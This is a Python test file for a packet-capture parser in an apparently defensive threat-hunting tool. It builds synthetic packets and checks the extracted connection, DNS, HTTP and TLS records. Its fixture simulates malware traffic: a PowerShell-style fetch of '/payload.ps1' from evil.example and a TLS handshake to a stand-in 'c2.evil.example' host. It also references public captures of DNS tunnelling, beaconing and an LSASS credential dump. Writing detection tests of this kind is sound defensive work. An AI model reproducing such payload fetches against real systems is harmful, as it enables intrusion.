"""pcap / pcapng fallback: connection summaries, DNS, HTTP, TLS from packets built here, truncated
captures, fuzz, and the shared captures (DNS tunnels, a periodic TLS beacon, the OTRF LSASS campaign)."""

from __future__ import annotations

import hashlib
import io
import socket
import struct
from collections import Counter
from pathlib import Path

import dpkt
import orjson
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from aptwatch.sources import detect_format
from aptwatch.sources.pcap import Pcap
from aptwatch.sources.pcap_capture import community_id
from tests.conftest import shared_path
from tests.sources.netutil import count, rows, run

CLIENT, SERVER, RESOLVER = "10.0.0.5", "93.184.216.34", "10.0.0.1"
T0 = 1709287200.0


def tcp(src: str, dst: str, sport: int, dport: int, flags: int, seq: int = 1, data: bytes = b"") -> bytes:
    t = dpkt.tcp.TCP(sport=sport, dport=dport, flags=flags, seq=seq, data=data)
    ip = dpkt.ip.IP(src=socket.inet_aton(src), dst=socket.inet_aton(dst), p=dpkt.ip.IP_PROTO_TCP, data=t)
    return bytes(dpkt.ethernet.Ethernet(src=b"\x00" * 6, dst=b"\x01" * 6, data=ip))


def udp(src: str, dst: str, sport: int, dport: int, data: bytes) -> bytes:
    u = dpkt.udp.UDP(sport=sport, dport=dport, data=data)
    u.ulen = 8 + len(data)
    ip = dpkt.ip.IP(src=socket.inet_aton(src), dst=socket.inet_aton(dst), p=dpkt.ip.IP_PROTO_UDP, data=u)
    return bytes(dpkt.ethernet.Ethernet(src=b"\x00" * 6, dst=b"\x01" * 6, data=ip))


def dns_query(qid: int, name: str) -> bytes:
    return bytes(dpkt.dns.DNS(id=qid, qd=[dpkt.dns.DNS.Q(name=name, type=dpkt.dns.DNS_A)]))


def dns_answer(qid: int, name: str, addr: str) -> bytes:
    an = dpkt.dns.DNS.RR(name=name, type=dpkt.dns.DNS_A, rdata=socket.inet_aton(addr), ttl=60)
    msg = dpkt.dns.DNS(id=qid, qd=[dpkt.dns.DNS.Q(name=name)], an=[an])
    msg.qr = dpkt.dns.DNS_R
    return bytes(msg)


def client_hello(sni: str) -> tuple[bytes, str]:
    """A TLS 1.2 ClientHello with a GREASE cipher, SNI, groups and point formats; and its JA3 string."""
    name = sni.encode()
    sni_ext = struct.pack("!HBH", len(name) + 3, 0, len(name)) + name
    exts = [(0x0a0a, b""), (0, sni_ext), (10, struct.pack("!HHH", 4, 29, 23)), (11, b"\x01\x00"), (35, b"")]
    ext_bytes = b"".join(struct.pack("!HH", t, len(d)) + d for t, d in exts)
    ciphers = [0x1a1a, 0xC02F, 0x009C]
    body = (struct.pack("!H", 0x0303) + b"\x11" * 32 + b"\x00" + struct.pack("!H", 2 * len(ciphers))
            + b"".join(struct.pack("!H", c) for c in ciphers) + b"\x01\x00" + struct.pack("!H", len(ext_bytes))
            + ext_bytes)
    hs = b"\x01" + len(body).to_bytes(3, "big") + body
    record = b"\x16\x03\x01" + struct.pack("!H", len(hs)) + hs
    return record, "771,49199-156,0-10-11-35,29-23,0"


def server_hello() -> bytes:
    body = struct.pack("!H", 0x0303) + b"\x22" * 32 + b"\x00" + struct.pack("!H", 0xC02F) + b"\x00" \
        + struct.pack("!H", 4) + struct.pack("!HH", 65281, 0)
    cert = b"0\x82\x01\x00fake-der-certificate"
    certs = len(cert).to_bytes(3, "big") + cert
    msgs = (b"\x02" + len(body).to_bytes(3, "big") + body
            + b"\x0b" + (len(certs) + 3).to_bytes(3, "big") + len(certs).to_bytes(3, "big") + certs)
    return b"\x16\x03\x03" + struct.pack("!H", len(msgs)) + msgs


S, A, F, R, P = dpkt.tcp.TH_SYN, dpkt.tcp.TH_ACK, dpkt.tcp.TH_FIN, dpkt.tcp.TH_RST, dpkt.tcp.TH_PUSH
REQUEST = b"GET /payload.ps1 HTTP/1.1\r\nHost: evil.example\r\nUser-Agent: WindowsPowerShell/5.1\r\n\r\n"
RESPONSE = b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 5\r\n\r\nhello"


def session() -> list[bytes]:
    hello, _ = client_hello("c2.evil.example")
    return [
        udp(CLIENT, RESOLVER, 50000, 53, dns_query(7, "evil.example")),
        udp(RESOLVER, CLIENT, 53, 50000, dns_answer(7, "evil.example", SERVER)),
        tcp(CLIENT, SERVER, 49152, 80, S, seq=100),
        tcp(SERVER, CLIENT, 80, 49152, S | A, seq=500),
        tcp(CLIENT, SERVER, 49152, 80, A, seq=101),
        tcp(CLIENT, SERVER, 49152, 80, P | A, seq=101, data=REQUEST),
        tcp(SERVER, CLIENT, 80, 49152, P | A, seq=501, data=RESPONSE),
        tcp(CLIENT, SERVER, 49152, 80, F | A, seq=101 + len(REQUEST)),
        tcp(SERVER, CLIENT, 80, 49152, F | A, seq=501 + len(RESPONSE)),
        tcp(CLIENT, SERVER, 49153, 443, S, seq=1),
        tcp(SERVER, CLIENT, 443, 49153, S | A, seq=1),
        tcp(CLIENT, SERVER, 49153, 443, P | A, seq=2, data=hello),
        tcp(SERVER, CLIENT, 443, 49153, P | A, seq=2, data=server_hello()),
        tcp(CLIENT, "203.0.113.9", 49154, 8443, S, seq=1),          # S0: no answer
        tcp(CLIENT, "203.0.113.10", 49155, 3389, S, seq=1),         # REJ
        tcp("203.0.113.10", CLIENT, 3389, 49155, R | A, seq=0),
    ]


def write_pcap(path: Path, packets: list[bytes], ng: bool = False) -> Path:
    buf = io.BytesIO()
    w = dpkt.pcapng.Writer(buf) if ng else dpkt.pcap.Writer(buf)
    for i, p in enumerate(packets):
        w.writepkt(p, ts=T0 + i * 0.5)
    path.write_bytes(buf.getvalue())
    return path


def test_sniff() -> None:
    assert Pcap().sniff(b"\xd4\xc3\xb2\xa1" + b"\x00" * 20, "x.pcap")
    assert Pcap().sniff(b"\x0a\x0d\x0d\x0a" + b"\x00" * 20, "x.pcapng")
    assert not Pcap().sniff(b"#separator \\x09\n", "x.pcap")
    found = detect_format(b"\xa1\xb2\xc3\xd4" + b"\x00" * 20, "capture.bin")
    assert found is not None and found.name == "pcap"


@pytest.mark.parametrize("ng", [False, True])
def test_golden_session(tmp_path: Path, ng: bool) -> None:
    tables, warnings = run(Pcap(), write_pcap(tmp_path / "s.pcap", session(), ng))
    assert warnings == []
    assert {t: v.num_rows for t, v in tables.items()} == {"network": 5, "dns": 1, "http": 1, "tls": 1}
    conns = {r["dst_port"]: r for r in rows(tables, "network")}
    web = conns[80]
    assert (web["src_ip"], web["dst_ip"], web["protocol"], web["conn_state"], web["app_protocol"], web["packets_out"],
            web["packets_in"], web["bytes_out"], web["bytes_in"], web["duration"], web["host"]) == (
        CLIENT, SERVER, "tcp", "SF", "http", 4, 3, len(REQUEST), len(RESPONSE), 3.0, CLIENT)
    assert web["community_id"] == community_id(6, CLIENT, 49152, SERVER, 80)
    assert conns[53]["conn_state"] == "SF" and conns[53]["app_protocol"] == "dns"
    assert conns[443]["conn_state"] == "S1" and conns[443]["app_protocol"] == "ssl"
    assert conns[8443]["conn_state"] == "S0" and conns[3389]["conn_state"] == "REJ"
    assert web["record"] == 30 and orjson.loads(web["raw"])["packet"] == 3  # record = packet x 10 + kind
    dns = rows(tables, "dns")[0]
    assert (dns["query"], dns["query_type"], dns["rcode"], dns["answers"], dns["src_ip"], dns["dst_port"],
            dns["flow_id"], dns["record"]) == ("evil.example", "A", "NOERROR", SERVER, CLIENT, 53, conns[53]["flow_id"],
                                               11)
    http = rows(tables, "http")[0]
    assert (http["method"], http["http_host"], http["uri"], http["user_agent"], http["status_code"],
            http["content_type"], http["response_bytes"], http["flow_id"]) == (
        "GET", "evil.example", "/payload.ps1", "WindowsPowerShell/5.1", 200, "text/plain", 5, web["flow_id"])
    tls = rows(tables, "tls")[0]
    _, ja3_string = client_hello("x")
    assert (tls["server_name"], tls["ja3"], tls["version"], tls["cipher"], tls["established"]) == (
        "c2.evil.example", hashlib.md5(ja3_string.encode()).hexdigest(), "TLSv12",
        "TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256", True)
    assert tls["ja3s"] == hashlib.md5(b"771,49199,65281").hexdigest()  # one extension: renegotiation_info
    assert tls["cert_sha1"] == hashlib.sha1(b"0\x82\x01\x00fake-der-certificate").hexdigest()


def test_truncated_capture_keeps_what_came_before(tmp_path: Path) -> None:
    p = write_pcap(tmp_path / "t.pcap", session())
    data = p.read_bytes()
    p.write_bytes(data[:-10])
    tables, warnings = run(Pcap(), p)
    assert [w.reason for w in warnings] == ["truncated"] and warnings[0].position == len(session())
    assert count(tables) >= 8
    p.write_bytes(data[:10])  # the file header itself is cut
    tables, warnings = run(Pcap(), p)
    assert tables == {} and [w.reason for w in warnings] == ["truncated"]


def test_garbled_packets_are_counted_not_raised(tmp_path: Path) -> None:
    pkts = session()
    pkts[0] = pkts[0][:20]            # an Ethernet frame cut inside the IP header
    pkts[1] = pkts[1][:42] + b"\xff" * 30  # a DNS response that is not DNS
    tables, warnings = run(Pcap(), write_pcap(tmp_path / "g.pcap", pkts))
    reasons = Counter(w.reason for w in warnings)
    assert reasons.keys() <= {"bad_packet", "bad_dns"} and reasons
    assert rows(tables, "http") and rows(tables, "tls")


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.binary(min_size=0, max_size=120), max_size=20), st.integers(0, 400))
def test_fuzz_never_raises(tmp_path: Path, frames: list[bytes], cut: int) -> None:
    p = write_pcap(tmp_path / "f.pcap", session()[:4] + frames)
    data = p.read_bytes()
    p.write_bytes(data[: max(24, len(data) - cut)])
    tables, warnings = run(Pcap(), p)
    assert all(w.reason in ("truncated", "bad_packet", "bad_dns") for w in warnings)
    assert count(tables) >= 0


@pytest.mark.shared
def test_shared_captures() -> None:
    tunnel, _ = run(Pcap(), shared_path("dns-tunnel-pcaps", "pcaps", "dns2tcp", "learn.netrack.github.com.pcap"))
    queries = tunnel["dns"].column("query").to_pylist()
    assert len(queries) > 4000 and all(q.endswith("hidemyself.org") for q in queries)  # the labelled tunnel domain
    beacon, _ = run(Pcap(), shared_path("slips-dataset", "test-cc", "test-cc-capture-1.pcap"))
    assert beacon["tls"].num_rows > 250 and set(beacon["tls"].column("server_name").to_pylist()) == {"testing.com"}
    lsass = shared_path("otrf-compound", "LSASS_campaign_01", "metasploit_logonpasswords_lsass_memory_dump_pcapng",
                        "metasploit_logonpasswords_lsass_memory_dump.pcapng")
    tables, warnings = run(Pcap(), lsass)
    assert warnings == []
    tls = {(r["src_port"], r["dst_ip"], r["dst_port"]): r for r in rows(tables, "tls")}
    # Zeek's ssl.log of the same capture: uid C6lHTD1NEfitEA9vDc 192.168.1.41:51129 -> 10.0.5.13:8080
    assert (tls[(51129, "10.0.5.13", 8080)]["version"], tls[(51129, "10.0.5.13", 8080)]["cipher"]) == (
        "TLSv12", "TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384")
    answered = [r for r in rows(tables, "dns") if r["dst_port"] == 53 and r["rcode"] is not None]
    assert len(answered) == 69  # the capture holds 69 responses on port 53, as Zeek's dns.log rows
    assert {r["host"] for r in rows(tables, "network") if r["dst_ip"] == "10.0.5.13"} == {"192.168.1.41"}
